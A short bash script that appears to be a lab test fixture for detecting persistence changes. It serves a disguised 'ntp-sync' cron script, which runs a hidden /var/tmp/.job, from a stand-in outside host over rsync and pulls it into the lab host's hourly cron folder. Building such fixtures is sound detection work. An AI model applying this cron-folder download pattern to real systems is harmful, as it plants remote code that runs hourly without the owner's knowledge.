#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=persistence-change half=report tool=rsync far=out ready=out:8730 seconds=14 parts=dns,nas,outside-web before=yes
# rsync brings scripts from outside into the folder of hourly jobs; the host's root is a folder of the lab.
# config: host_root: {dir}/host
if [ "$1" = before ]; then exec "$(dirname "$0")/../far/host-root.sh"; fi
if [ "$1" = out ]; then mkdir -p "$LAB/far-jobs"; printf '#!/bin/sh\nexec /var/tmp/.job\n' >"$LAB/far-jobs/ntp-sync"; printf 'use chroot = no\nuid = root\ngid = root\n[jobs]\npath = %s\n' "$LAB/far-jobs" >"$LAB/far-jobs.conf"; exec timeout 30 rsync --daemon --no-detach --port=8730 --address=203.0.113.66 --config="$LAB/far-jobs.conf"; fi
sleep 1; rsync -a rsync://203.0.113.66:8730/jobs/ "$LAB/host/etc/cron.hourly/"; sleep 6; true
